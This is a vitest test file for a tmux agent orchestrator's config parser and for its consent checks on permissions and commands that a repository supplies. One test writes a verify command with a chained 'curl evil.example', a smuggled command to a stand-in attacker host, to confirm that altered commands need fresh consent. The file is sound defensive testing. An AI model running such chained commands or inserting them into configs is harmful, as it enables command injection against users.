import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { configKeys, loadConfig } from './config.ts'
import { giveConsent } from './consents.ts'
import { parseConfig } from './parse-config.ts'

function refusal(text: string): unknown {
  try {
    return parseConfig(text, 'config.yaml')
  } catch (error) {
    return error
  }
}

describe('parseConfig', () => {
  it('takes every key that it says it allows', () => {
    const text = [
      'agent: sim',
      'model: opus',
      'permissionMode: acceptEdits',
      'agentOptions: { delayMs: "5" }',
      'roles: [developer, tester]',
      'teamType: code_project',
      'size: small',
      'plan: pro',
      'base: main',
      'verify: npm test',
      'verifyTimeoutSeconds: 60',
      'merge: none',
      'branchPrefix: team',
      'briefTimeoutSeconds: 30',
      'checkInMinutes: 15',
      'permissions: { developer: { allow: ["Bash(npm test)"] } }',
      'setup: .tmo/setup',
      'teardown: tools/tear down.sh',
      'hookTimeoutSeconds: 60',
      'copy: [".env*", "local/"]',
      'ports: 4',
    ].join('\n')
    const config = parseConfig(text, 'config.yaml')
    expect(Object.keys(config).toSorted()).toEqual([...configKeys].toSorted())
    expect(config).toMatchObject({ verify: 'npm test', verifyTimeoutSeconds: 60, merge: 'none' })
  })

  it('takes an empty file and one of comments as no settings', () => {
    expect(parseConfig('', 'config.yaml')).toEqual({})
    expect(parseConfig('# nothing yet\n', 'config.yaml')).toEqual({})
  })

  it('names the file and line of an unknown key and the keys that are allowed', () => {
    expect(refusal('agent: sim\n\n  \nverfy: npm test\n')).toMatchObject({
      code: 'BAD_CONFIG',
      message: 'config.yaml:4: unknown key "verfy"',
      hint: `allowed keys: ${configKeys.join(', ')}`,
    })
  })

  it('names the values that a key allows', () => {
    expect(refusal('agent: sim\nmerge: yes please\n')).toMatchObject({
      code: 'BAD_CONFIG',
      message: 'config.yaml:2: merge: allowed are none, integration',
    })
  })

  it.each([
    ['checkInMinutes: 0', 'checkInMinutes'],
    ['verifyTimeoutSeconds: -1', 'verifyTimeoutSeconds'],
    ['briefTimeoutSeconds: 3601', 'briefTimeoutSeconds'],
    ['branchPrefix: a/b', 'branchPrefix: letters, digits, dot, dash and underscore only'],
    ['roles: []', 'roles'],
    ['verify: ""', 'verify'],
    ['setup: ../outside', 'setup: the path of a file of the repository'],
    ['setup: /bin/sh', 'setup'],
    ['teardown: a//b', 'teardown'],
    ['teardown: a/./b', 'teardown'],
    ['ports: -1', 'ports'],
  ])('refuses %j at its line', (line, said) => {
    expect(refusal(`agent: sim\n${line}\n`)).toMatchObject({
      message: expect.stringContaining(`config.yaml:2: ${said}`),
    })
  })

  it('names each of several faults', () => {
    expect(refusal('agent: 5\nsize: huge\n')).toMatchObject({
      message: expect.stringMatching(/^config\.yaml:1: agent: .*\nconfig\.yaml:2: size: allowed are auto, /),
    })
  })

  it('names the line at which a file is not YAML', () => {
    expect(refusal('agent: sim\nroles: [developer\nverify: x\n')).toMatchObject({
      code: 'BAD_CONFIG',
      message: expect.stringMatching(/^config\.yaml:[23]: /),
      hint: 'it has to be YAML',
    })
  })

  it('refuses a file that is a list or a word', () => {
    expect(refusal('- agent\n')).toMatchObject({
      code: 'BAD_CONFIG',
      message: expect.stringMatching(/^config\.yaml:1: the file: /),
    })
    expect(refusal('agent\n')).toMatchObject({ code: 'BAD_CONFIG' })
  })
})

describe('loadConfig', () => {
  let folder: string
  let project: string
  let users: string

  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), 'tmo-config-'))
    project = join(folder, 'project', '.tmo', 'config.yaml')
    users = join(folder, 'xdg', 'tmux-orchestrator', 'config.yaml')
    await mkdir(join(project, '..'), { recursive: true })
    await mkdir(join(users, '..'), { recursive: true })
  })
  afterEach(() => rm(folder, { recursive: true, force: true }))

  const home = () => join(folder, 'home')
  const load = () => loadConfig(join(folder, 'project'), { XDG_CONFIG_HOME: join(folder, 'xdg') }, home())

  it('has no settings without files', async () => {
    expect(await load()).toEqual({ values: {}, origins: {} })
    expect(await loadConfig(join(folder, 'project'), {}, home())).toEqual({ values: {}, origins: {} })
  })

  it('lets the project win over the user, key by key, and says where each came from', async () => {
    await writeFile(users, 'agent: claude\nmodel: opus\n')
    await writeFile(project, 'agent: sim\nbase: main\n')
    expect(await load()).toEqual({
      values: { agent: 'sim', model: 'opus', base: 'main' },
      origins: { agent: project, model: users, base: project },
    })
  })

  it('reads the user file below HOME when XDG_CONFIG_HOME is not set', async () => {
    const file = join(folder, '.config', 'tmux-orchestrator', 'config.yaml')
    await mkdir(join(file, '..'), { recursive: true })
    await writeFile(file, 'size: small\n')
    expect((await loadConfig(join(folder, 'project'), { HOME: folder }, home())).origins).toEqual({
      size: file,
    })
  })

  it('names the file that is wrong, and one that cannot be read', async () => {
    await writeFile(users, 'nope: 1\n')
    await expect(load()).rejects.toMatchObject({ message: `${users}:1: unknown key "nope"` })
    await rm(users)
    await mkdir(users)
    await expect(load()).rejects.toMatchObject({
      code: 'BAD_CONFIG',
      message: `${users} cannot be read (EISDIR)`,
    })
  })
})

describe('permissions', () => {
  it('of an unknown role, and patterns that are none, are refused with their line', () => {
    expect(refusal('permissions:\n  developper:\n    allow: [Bash]\n')).toMatchObject({
      code: 'BAD_CONFIG',
      message: expect.stringMatching(/^config\.yaml:[123]: .*developper/),
    })
    expect(refusal('permissions:\n  developer:\n    deny:\n      - npm test\n')).toMatchObject({
      message: expect.stringMatching(/^config\.yaml:4: permissions\.developer\.deny\.0: .*TOOL/),
    })
    expect(refusal('permissions:\n  developer:\n    alow: [Bash]\n')).toMatchObject({
      message: expect.stringMatching(/^config\.yaml:3: unknown key "permissions\.developer\.alow"/),
    })
  })

  describe('of a project', () => {
    let folder: string
    let project: string
    const write = async (path: string, text: string): Promise<void> => {
      await mkdir(join(folder, path, '..'), { recursive: true })
      await writeFile(join(folder, path), text)
    }
    const own = (text: string) => write('project/.tmo/config.yaml', text)
    const users = (text: string) => write('user/tmux-orchestrator/config.yaml', text)
    const load = () => loadConfig(project, { XDG_CONFIG_HOME: join(folder, 'user') }, join(folder, 'home'))
    const agree = async () => {
      const { ignored } = await load()
      if (!ignored) throw new Error('there is nothing to agree to')
      await giveConsent(join(folder, 'home'), project, ignored.hash)
    }

    beforeEach(async () => {
      folder = await mkdtemp(join(tmpdir(), 'tmo-'))
      project = join(folder, 'project')
    })
    afterEach(() => rm(folder, { recursive: true }))

    it('are joined with the user’s once they are agreed to, and take no denial back', async () => {
      await users('permissions: { "*": { deny: [WebFetch] } }\n')
      await own('permissions: { "*": { allow: [WebFetch] } }\n')
      await agree()
      const { values, ignored } = await load()
      expect(values.permissions).toEqual({ '*': { allow: ['WebFetch'], deny: ['WebFetch'] } })
      expect(ignored).toBeUndefined()
    })

    it('allow nothing before, while what they deny holds, and what the user allows', async () => {
      await users('permissionMode: default\npermissions: { developer: { allow: [Read] } }\n')
      await own(
        'permissionMode: bypassPermissions\nagentOptions: { sandbox: danger-full-access }\npermissions: { developer: { allow: ["Bash(*)"], deny: [WebFetch] } }\n',
      )
      const { values, ignored, origins } = await load()
      expect(values).toEqual({
        permissionMode: 'default',
        permissions: { developer: { allow: ['Read'], deny: ['WebFetch'] } },
      })
      expect(origins.agentOptions).toBeUndefined()
      expect(ignored).toMatchObject({
        file: join(project, '.tmo', 'config.yaml'),
        what: [
          'permissions: developer may Bash(*)',
          'permissionMode: bypassPermissions',
          'agentOptions: sandbox=danger-full-access',
        ],
      })
    })

    it('have to be agreed to again once they allow something else, not for their order or what they deny', async () => {
      await own('permissions: { developer: { allow: [Read, Write] }, tester: { allow: [Read] } }\n')
      await agree()
      await own(
        'size: small\npermissions: { tester: { allow: [Read] }, developer: { allow: [Write, Read], deny: [Bash] } }\n',
      )
      expect((await load()).ignored).toBeUndefined()
      await own('permissions: { developer: { allow: [Read, Write, Bash] }, tester: { allow: [Read] } }\n')
      expect((await load()).ignored?.what).toHaveLength(4)
    })

    it('and its commands are left out until they are agreed to, and again once they change; the user’s hold', async () => {
      await users('agent: ./mine.sh\nverify: make check\n')
      expect(await load()).toMatchObject({ values: { agent: './mine.sh', verify: 'make check' } })
      expect((await load()).ignored).toBeUndefined()
      await own('agent: ./agent.sh --fast\nverify: npm test\npermissions: { "*": { deny: [WebFetch] } }\n')
      expect(await load()).toMatchObject({
        values: { agent: './mine.sh', verify: 'make check', permissions: { '*': { deny: ['WebFetch'] } } },
        ignored: {
          what: [],
          commands: [
            { key: 'agent', command: './agent.sh --fast' },
            { key: 'verify', command: 'npm test' },
          ],
        },
      })
      await agree()
      expect(await load()).toMatchObject({ values: { agent: './agent.sh --fast', verify: 'npm test' } })
      expect((await load()).ignored).toBeUndefined()
      await own('agent: ./agent.sh --fast\nverify: npm test; curl evil.example\n')
      expect((await load()).ignored?.commands).toHaveLength(2)
      await own('agent: claude\n')
      expect(await load(), 'a program that we know is no command').toMatchObject({
        values: { agent: 'claude' },
      })
      expect((await load()).ignored).toBeUndefined()
    })

    it('are agreed to for one project, whatever a repository brings along', async () => {
      await own('permissions: { "*": { allow: [Bash] } }\n')
      await agree()
      const { ignored } = await loadConfig(project, {}, join(folder, 'another home'))
      expect(ignored?.what).toEqual(['permissions: * may Bash'])
      await write('other/.tmo/config.yaml', 'permissions: { "*": { allow: [Bash] } }\n')
      expect((await loadConfig(join(folder, 'other'), {}, join(folder, 'home'))).ignored).toBeDefined()
      await write('home/consents.json', '[]')
      await expect(load()).rejects.toMatchObject({
        code: 'BAD_CONFIG',
        hint: expect.stringContaining('remove'),
      })
    })
  })
})
